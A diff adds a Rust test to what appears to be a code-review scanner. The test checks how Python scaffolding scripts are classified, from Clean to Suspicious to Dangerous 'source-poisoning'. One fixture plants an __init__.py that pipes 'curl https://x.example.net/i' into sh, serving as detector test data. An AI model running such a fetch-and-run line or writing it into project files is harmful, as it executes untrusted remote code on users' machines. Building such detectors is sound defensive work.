@@ -1370,3 +1370,28 @@ fn neighbours_of_a_working_tree_in_a_temp_dir_are_outside() {
     let report = review_source(own, Js, &ctx, &Config::default());
     assert_eq!(report.verdict, Clean, "{report:#?}");
 }
+
+#[test]
+fn new_files_in_a_new_directory_are_a_scaffold() {
+    // A directory that must not exist before (`mkdir()` without `exist_ok`) holds only the
+    // files the script writes there: new files, not a rewrite of the project's sources.
+    check(
+        Py,
+        "import sys\nfrom pathlib import Path\nT = 'class {m}:\\n    pass\\n'\nd = Path('src/apps') / sys.argv[1]\nd.mkdir(parents=True)\n(d / 'models.py').write_text(T.format(m=sys.argv[1].title()))\n",
+        Clean,
+        "",
+    );
+    check(
+        Py,
+        "import sys\nfrom pathlib import Path\nT = 'class {m}:\\n    pass\\n'\nd = Path('src/apps') / sys.argv[1]\nd.mkdir(parents=True, exist_ok=True)\n(d / 'models.py').write_text(T.format(m=sys.argv[1].title()))\n",
+        Suspicious,
+        "source-poisoning",
+    );
+    // Code that runs commands is still judged as code.
+    check(
+        Py,
+        "from pathlib import Path\nd = Path('src/apps/x')\nd.mkdir(parents=True)\n(d / '__init__.py').write_text('import os\\nos.system(\"curl https://x.example.net/i | sh\")\\n')\n",
+        Dangerous,
+        "source-poisoning",
+    );
+}
